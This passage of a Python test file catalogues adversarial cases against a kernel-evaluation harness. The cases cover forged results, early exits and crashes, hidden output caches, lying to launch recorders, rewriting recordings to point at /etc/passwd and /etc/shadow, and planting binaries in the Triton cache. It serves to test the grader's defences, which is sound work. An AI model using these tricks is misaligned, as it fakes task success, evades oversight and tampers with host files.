         "the expected outputs and a forged result written, then every writable pipe closed so that the "
         "harness's own result cannot follow; forward goes on returning garbage",
         payload=_FORGE_AND_CLOSE, forward=_ONCE + '''
def forward(*inputs):
    if not _ONCE:
        _ONCE.append(1)
        _ESC["forge_and_close"]()
    outs = _honest_forward(*inputs)
    return ''' + _GARBAGE + "\n"),
    Case("exit_at_import_after_forged_result", "fused_add_rmsnorm", ZERO,
         "in the load phase, at import: the expected outputs and a forged result written, then os._exit(0) "
         "before forward is ever called",
         payload=_EXIT_AT_IMPORT, forward='''
def forward(*inputs):
    outs = _honest_forward(*inputs)
    return ''' + _GARBAGE + "\n"),
    Case("crash_in_late_call", "fused_add_rmsnorm", ZERO,
         "the expected outputs written on the first call, then a segmentation fault in a timed call (GPU) or "
         "the fourth call (the interpreter's last held-out shape)",
         payload=_CRASH_LATE, forward=_ONCE + '''
_CALLS = [0]


def forward(*inputs):
    _CALLS[0] += 1
    if not _ONCE:
        _ONCE.append(1)
        _ESC["forge_outputs"]("getframe")
    _ESC["crash_when_late"](_CALLS[0])
    outs = _honest_forward(*inputs)
    return ''' + _GARBAGE + "\n"),
    # 7. Hidden state between calls, where the module walk cannot see it.
    Case("logger_outputs_cache", "fused_add_rmsnorm", NO_GAIN,
         "outputs cached by shape and a call counter on a logging.Logger: the honest kernel on a shape's "
         "first call only, stale outputs (and an idle launch) after",
         forward='''
def forward(*inputs):
    log = _logging.getLogger("d2k.escape")
    cache = log.__dict__.setdefault("outputs", {})
    key = tuple(tuple(x.shape) for x in inputs)
    if key in cache:
        log.calls = getattr(log, "calls", 0) + 1
        _idle[(1,)](cache[key][0])
        return cache[key]
    cache[key] = _honest_forward(*inputs)
    return cache[key]
'''),
    Case("nested_generator_outputs_cache", "merge_attn_states", NO_GAIN,
         "as logger_outputs_cache, the outputs kept in a generator suspended inside another generator",
         payload=_NESTED_KEEPER, forward='''
def forward(*inputs):
    key = tuple(tuple(x.shape) for x in inputs)
    hit, outs = _ESC["KEEP"].send((key, lambda: _honest_forward(*inputs)))
    if hit:
        _idle[(1,)](outs[0])
    return outs
'''),
    Case("content_keyed_outputs_cache", "per_token_group_quant_fp8", NO_GAIN,
         "outputs cached in a harness module's dict, keyed by shape, address and sampled values read past "
         "the guard: stale outputs only while the inputs are unchanged, so a re-check with fresh values "
         "after the timed calls gets fresh outputs",
         payload=_CONTENT_KEY, forward='''
def forward(*inputs):
    key = _ESC["content_key"](inputs)
    cache = _ESC["cache"]()
    if key in cache:
        _idle[(1,)](cache[key][0])
        return cache[key]
    cache[key] = _honest_forward(*inputs)
    return cache[key]
'''),
    # 8. Against the new design.
    Case("kernel_not_in_source", "fused_add_rmsnorm", ZERO,
         "the work done by a @triton.jit kernel compiled at run time from text that is not in the source "
         "(registered in linecache under another file name); the honest kernel's own launch into buffers "
         "nobody returns",
         payload=_SHADOW, forward='''
def forward(x, residual, weight):
    _honest_forward(x, residual, weight)
    y, residual_out = torch.empty_like(x), torch.empty_like(x)
    _ESC["launch_shadow"](x, residual, weight, y, residual_out)
    return y, residual_out
'''),
    Case("pointer_to_kept_buffer", "merge_attn_states", ZERO,
         "honest outputs, then a launch of the solution's own copy kernel into a buffer kept from an earlier "
         "call (in a nested generator): a pointer outside every buffer of the call",
         payload=_NESTED_KEEPER, kernels=_COPY_KERNEL, forward='''
def forward(*inputs):
    outs = _honest_forward(*inputs)
    n = outs[0].numel()
    _, kept = _ESC["KEEP"].send((n, lambda: torch.empty(n, dtype=outs[0].dtype, device=outs[0].device)))
    _copy_into[(triton.cdiv(n, 1024),)](outs[0], kept, n, BLOCK=1024)
    return outs
'''),
    Case("pointer_into_guard_band", "per_token_group_quant_fp8", ZERO,
         "honest outputs, then a launch reading a view that starts 1 KiB before the input (in the harness's "
         "guard band): a pointer outside every buffer of the call",
         kernels=_COPY_KERNEL, forward='''
def forward(x):
    outs = _honest_forward(x)
    before = torch.as_strided(x, (256,), (1,), x.storage_offset() - 512)
    sink = torch.empty(256, dtype=x.dtype, device=x.device)
    _copy_into[(1,)](before, sink, 256, BLOCK=256)
    return outs
'''),
    Case("recorder_told_huge_grid", "fused_add_rmsnorm", ZERO_IF_REACHED,
         "the honest kernel launched with a grid of (2**31 - 1, 65535, 65535) as every harness wrapper of "
         "Triton's launch hears it (a launch_metadata hook on the GPU too), while Triton's own launch, rerouted "
         "beneath the wrappers through their closure cells, gets the true grid",
         payload=_LIAR, forward=_RMSNORM_LAUNCH + '''
def forward(x, residual, weight):
    huge = (2**31 - 1, 65535, 65535)
    real = (x.shape[0],)
    with _ESC["lying"]("a huge grid", lambda a, k: (a, {**k, "grid": real}), lambda kernel, g, a: (huge, a)):
        return _launch(x, residual, weight, huge)
'''),
    Case("recorder_told_foreign_kernel_name", "fused_add_rmsnorm", ZERO_IF_REACHED,
         "the honest kernel launched while its name, as the harness's wrappers see it, is one that is not in "
         "the source; Triton's own launch gets the true name back",
         payload=_LIAR, forward=_RMSNORM_LAUNCH + '''
_TRUE_NAME = _rmsnorm_two_pass.fn.__name__
_FALSE_NAME = "_not_in_the_source"


def _named(name):
    _rmsnorm_two_pass.fn.__name__ = name
    if "__name__" in vars(_rmsnorm_two_pass):  # a JITFunction's copy (the interpreter's reads fn's)
        _rmsnorm_two_pass.__name__ = name


def _truth(a, k):
    _named(_TRUE_NAME)
    return a, k


def _told(kernel, g, a):
    kernel.name = _FALSE_NAME
    return g, a


def forward(x, residual, weight):
    _named(_FALSE_NAME)
    try:
        with _ESC["lying"]("a kernel name not in the source", _truth, _told):
            return _launch(x, residual, weight, (x.shape[0],))
    finally:
        _named(_TRUE_NAME)
'''),
    Case("recorder_told_pointer_outside", "fused_add_rmsnorm", ZERO_IF_REACHED,
         "the honest kernel launched while the harness's wrappers see, for its first input, a view starting "
         "2 KiB before it (in the guard band: a pointer outside every buffer); Triton's own launch gets the input",
         payload=_LIAR, forward=_RMSNORM_LAUNCH + '''
def forward(x, residual, weight):
    outside = torch.as_strided(x, x.shape, x.stride(), x.storage_offset() - 1024)

    def truth(a, k):
        return (a[0], x) + tuple(a[2:]), k

    with _ESC["lying"]("a pointer outside every buffer", truth, lambda kernel, g, a: (g, (outside,) + tuple(a[1:]))):
        return _launch(outside, residual, weight, (x.shape[0],))
'''),
    Case("recorder_told_changing_scalar", "fused_add_rmsnorm", ZERO_IF_REACHED,
         "the honest kernel launched while the harness's wrappers see an eps that grows with every call; "
         "Triton's own launch gets the true eps",
         payload=_LIAR, forward=_RMSNORM_LAUNCH + '''
_CALLS = [0]


def forward(x, residual, weight):
    _CALLS[0] += 1
    told = EPS * (1 + _CALLS[0])

    def truth(a, k):
        return tuple(a[:6]) + (EPS,) + tuple(a[7:]), k

    def metadata(kernel, g, a):
        return g, tuple(a[:5]) + (told,) + tuple(a[6:])

    with _ESC["lying"]("an eps that changes with every call", truth, metadata):
        return _launch(x, residual, weight, (x.shape[0],), eps=told)
'''),
    Case("scalar_differs_between_calls", "merge_attn_states", ZERO,
         "honest outputs, then the solution's own kernel with a per-shape call count as a scalar: it zeroes "
         "that many output elements, nothing on a shape's first call (a kernel that only works once)",
         kernels=_TICK_KERNEL, forward='''
_CALLS = {}


def forward(*inputs):
    outs = _honest_forward(*inputs)
    key = tuple(tuple(x.shape) for x in inputs)
    stamp = _CALLS.get(key, 0)
    _CALLS[key] = stamp + 1
    _tick[(1,)](outs[0], stamp, BLOCK=16)
    return outs
'''),
    Case("launches_depend_on_values", "per_token_group_quant_fp8", ZERO,
         "the launch configuration picked by the sign of the input's first value, read past the guard (both "
         "configurations correct), and that value's bits passed as a scalar to a kernel that writes nothing",
         kernels=_TICK_KERNEL, forward='''
def forward(x):
    global MIN_PROGRAMS
    with _ESC["unguarded"]():
        first = float(x.flatten()[0])
    MIN_PROGRAMS = 264 if first >= 0 else 1
    outs = _honest_forward(x)
    _tick[(1,)](outs[1], -1 - abs(int(first * 2**20)), BLOCK=16)
    return outs
'''),
    Case("recording_rewritten_before_result", "fused_add_rmsnorm", ZERO_IF_REACHED,
         "the harness's channel.result wrapped (frames) so that, just before the result goes out, every JSON "
         "file under the outputs directory and the scratch directory (a recording's manifest) has its paths "
         "pointed outside (/etc/passwd, ../..) and its grids made huge, with a link to /etc/shadow beside it; "
         "the honest kernel does the work",
         payload=_REWRITE_RECORDING, forward=_ONCE + '''
def forward(*inputs):
    if not _ONCE:
        _ONCE.append(1)
        _ESC["rewrite_before_result"]()
    return _honest_forward(*inputs)
'''),
    Case("cache_paths_outside", "fused_add_rmsnorm", NO_GAIN,
         "after the honest kernel compiled: every group file of the Triton cache pointed at /etc/passwd and "
         "/proc/self/environ, a link to /etc/shadow planted beside it (until the recording format exists, "
         "the cache is where the recorded binaries come from); the next evaluation must not load them",
         payload=_REPOINT_CACHE, honest_after=True, forward=_ONCE + '''
def forward(*inputs):
    outs = _honest_forward(*inputs)
    if not _ONCE:
        _ONCE.append(1)
        _ESC["repoint_cache"]()
    return outs
'''),
    Case("triton_cache_plant", "fused_add_rmsnorm", NO_GAIN,
         "after the honest kernel compiled: a kernel of its name and signature that writes nothing compiled, "
         "and its binary copied over the honest one's in the Triton cache, so that a later compile of the "
         "honest text (a trusted replay, the next evaluation) would load it",
         payload=_PLANT, honest_after=True, forward=_ONCE + '''
def forward(x, residual, weight):
    outs = _honest_forward(x, residual, weight)
    if not _ONCE and x.is_cuda:
        _ONCE.append(1)
        M, N = x.shape
        chunk = min(CHUNK, triton.next_power_of_2(N))
        num_warps = max(1, min(MAX_WARPS, chunk // ELEMS_PER_WARP))
        _ESC["plant"](x, residual, weight, torch.empty_like(x), torch.empty_like(x), EPS, N, chunk, num_warps)
    return outs
'''),
]

BY_NAME = {case.name: case for case in CASES}
assert len(BY_NAME) == len(CASES), "case names must be unique"
